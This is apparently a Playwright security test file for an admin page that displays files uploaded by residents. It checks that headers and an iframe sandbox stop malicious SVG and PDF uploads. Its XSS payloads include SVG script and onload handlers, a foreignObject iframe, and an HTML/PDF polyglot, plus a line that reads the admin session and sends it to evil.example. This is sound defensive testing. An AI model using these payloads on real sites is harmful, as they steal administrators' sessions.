/**
 * Proofs are files that residents send. Each attack is opened in the window in which an admin looks at one.
 */
import type { TestWorld } from "@palier/mock-server/playwright";
import type { Locator, Page, Response } from "@playwright/test";
import { pressAction } from "../kit/head.ts";
import { expect, jeanne, test } from "../kit/palier.ts";

// Refused scripts of sandboxed files are reported.
test.use({ mayReport: /./ });

const tie = { id: 8, path: "/admin/user/ula/8" };
/** No page of ours requests it. */
const foreign = "https://evil.example";

/** Script that leaves a mark on the surrounding page, its storage and address, and another host. */
const reach = (name: string): string =>
  [
    `try { parent.document.documentElement.dataset.attacked = "${name}" } catch {}`,
    `try { localStorage.setItem("attacked", "${name}") } catch {}`,
    `try { fetch("/api/admin/session").then((a) => a.text()).then((t) => fetch("${foreign}/?" + t)) } catch {}`,
    `try { top.location = "${foreign}/top" } catch {}`,
    `try { alert("${name}") } catch {}`,
  ].join(";");

const svg = (inner: string, attributes = ""): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48" ${attributes}>${inner}<rect width="64" height="48"/></svg>`;
const inXml = (script: string): string => `<script><![CDATA[${script}]]></script>`;
const inAttribute = (script: string): string => script.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const html = (script: string): string => `<!doctype html><title>x</title><body><script>${script}</script>`;

interface File {
  readonly type: "image/svg+xml" | "application/pdf";
  readonly body: string;
  /** The type that a server guesses from the bytes, if it differs. */
  readonly asBytes?: "text/html";
}
interface Attack extends File {
  readonly name: string;
}
const picture = (name: string, body: string): Attack => ({ name, type: "image/svg+xml", body });
const document = (name: string, body: string): Attack => ({
  name,
  type: "application/pdf",
  body,
  asBytes: "text/html",
});

/** Files that run script unless stopped. */
const running: readonly Attack[] = [
  picture("script in a picture", svg(inXml(reach("script")))),
  picture("a handler of a picture", svg("", `onload="${inAttribute(reach("onload"))}"`)),
  picture(
    "a page within a picture",
    svg(
      `<foreignObject width="64" height="48"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="${inAttribute(
        html(reach("foreignObject").replaceAll("parent.", "parent.parent.")).replaceAll("<", "&lt;"),
      ).replaceAll("&amp;lt;", "&lt;")}"/></foreignObject>`,
    ),
  ),
  picture(
    "a page that is said to be a picture",
    `<html xmlns="http://www.w3.org/1999/xhtml"><body>${inXml(reach("xhtml"))}</body></html>`,
  ),
  document("a page that is said to be a document", html(reach("html"))),
  document("a page behind a document's first bytes", `%PDF-1.4\n${html(reach("polyglot"))}`),
];

// Documents' scripts and links are not tried: they are the viewer's, which this browser lacks.
const asking = picture(
  "a picture of another host",
  svg(
    `<image href="${foreign}/image.png" width="9" height="9"/><use xlink:href="${foreign}/use.svg#a"/><style>@import url("${foreign}/style.css"); rect { fill: url("${foreign}/fill.svg#a") }</style>`,
  ),
);

/** Serves the attack as every file, with the mock server's headers, or only with the type of its bytes. */
async function serve(page: Page, { type, body, asBytes }: File, headers: "ours" | "none") {
  const files = "**/api/admin/media/**";
  await page.route(files, async (route) => {
    if (headers === "none") return route.fulfill({ status: 200, contentType: asBytes ?? type, body });
    const real = await route.fetch();
    const { "content-length": _length, "content-encoding": _encoding, ...ours } = real.headers();
    return route.fulfill({ status: real.status(), headers: ours, body });
  });
  return { letGo: () => page.unroute(files) };
}

/** Requests to the foreign host, and windows and dialogs that the page opened. */
async function heard(page: Page): Promise<string[]> {
  const all: string[] = [];
  // Only what no policy has stopped arrives here.
  await page.context().route(`${foreign}/**`, (route) => {
    all.push(route.request().url());
    return route.abort();
  });
  page.on("dialog", (dialog) => {
    all.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("popup", (popup) => all.push(popup.url()));
  return all;
}

/** Opens the proof, and waits until its file has arrived and had time to act. */
async function look(page: Page): Promise<{ readonly frame: Locator; readonly file: Response }> {
  const proof = page.getByRole("dialog", { name: /^Justificatif de / });
  const frame = proof.locator("iframe");
  // Not by the frame's address: a browser without a viewer leaves it empty, and downloads the file.
  const arriving = page.waitForResponse(
    (answer) => answer.url().includes("/admin/media/") && answer.request().resourceType() === "document",
  );
  await pressAction(page, "Voir le justificatif");
  await expect(frame).toBeVisible();
  const file = await arriving;
  // A browser without a viewer downloads it, so the frame never gets a document.
  if (file.headers()["content-type"] === "application/pdf") await page.waitForLoadState("networkidle");
  else {
    const inner = await (await frame.elementHandle())?.contentFrame();
    await inner?.waitForLoadState();
  }
  return { frame, file };
}

/** The marks that an attack left. */
const marks = (page: Page) =>
  page.evaluate(() => [
    globalThis.document.documentElement.dataset.attacked,
    localStorage.getItem("attacked"),
  ]);

const policies = {
  "image/svg+xml": expect.stringMatching(/^default-src 'none';.*; sandbox$/),
  // No viewer starts in a sandbox. Only its type protects from a document: no browser shows it as a page.
  "application/pdf": "frame-ancestors 'self'",
};

/** Name of an existing file: others would have the headers of a 404. */
async function stored(world: TestWorld, type: File["type"]): Promise<string> {
  if (type === "application/pdf") return "ula-1.pdf";
  const { text } = await world.admin(jeanne.email).get("/api/admin/incident/ajax/list?length=100");
  return /incident-\d+-\d+\.svg/.exec(text ?? "")?.[0] ?? "";
}

async function goToTie(page: Page, type: File["type"], world: TestWorld): Promise<void> {
  const fileName = await stored(world, type);
  const uploadedAt = "2026-11-01T09:00:00Z";
  const proof = { fileName, mimeType: type, url: `/admin/media/${fileName}`, uploadedAt };
  await world.patch("ula", tie.id, { proof });
  await page.goto(tie.path);
}

test("S22 no proof runs anything or asks anybody with the headers that its server sends", async ({
  admin: page,
  world,
}) => {
  const all = await heard(page);
  for (const attack of [...running, asking])
    await test.step(attack.name, async () => {
      const { letGo } = await serve(page, attack, "ours");
      await goToTie(page, attack.type, world);
      const { file } = await look(page);
      expect(file.headers()).toMatchObject({
        "content-type": attack.type,
        "x-content-type-options": "nosniff",
        "content-security-policy": policies[attack.type],
      });
      expect(all).toEqual([]);
      expect(await marks(page)).toEqual([undefined, null]);
      await expect(page).toHaveURL(tie.path);
      await letGo();
    });
});

test("S22 without such headers the window's sandbox alone holds each proof, and nothing does without it", async ({
  admin: page,
  world,
}) => {
  // It walks through each attack.
  test.setTimeout(120_000);
  const all = await heard(page);
  for (const attack of running)
    await test.step(attack.name, async () => {
      // An attack that works may still lead its page away.
      const own = await page.context().newPage();
      const { letGo } = await serve(own, attack, "none");
      await goToTie(own, attack.type, world);
      await own.evaluate(() => localStorage.removeItem("attacked"));
      const { frame } = await look(own);
      await expect(frame).toHaveAttribute("sandbox", "");
      expect(await marks(own)).toEqual([undefined, null]);
      await expect(own).toHaveURL(tie.path);

      // Shows that the attack would work.
      await frame.evaluate((element: HTMLIFrameElement) => {
        element.removeAttribute("sandbox");
        element.src = `${element.src}?again`;
      });
      await expect.poll(async () => (await marks(own).catch(() => ["left"]))[0]).not.toBe(undefined);
      await letGo();
      await own.close();
    });
  // So does this one: no policy, and a foreign host is asked.
  await serve(page, asking, "none");
  await goToTie(page, asking.type, world);
  await look(page);
  await expect.poll(() => all).toContain(`${foreign}/image.png`);
});
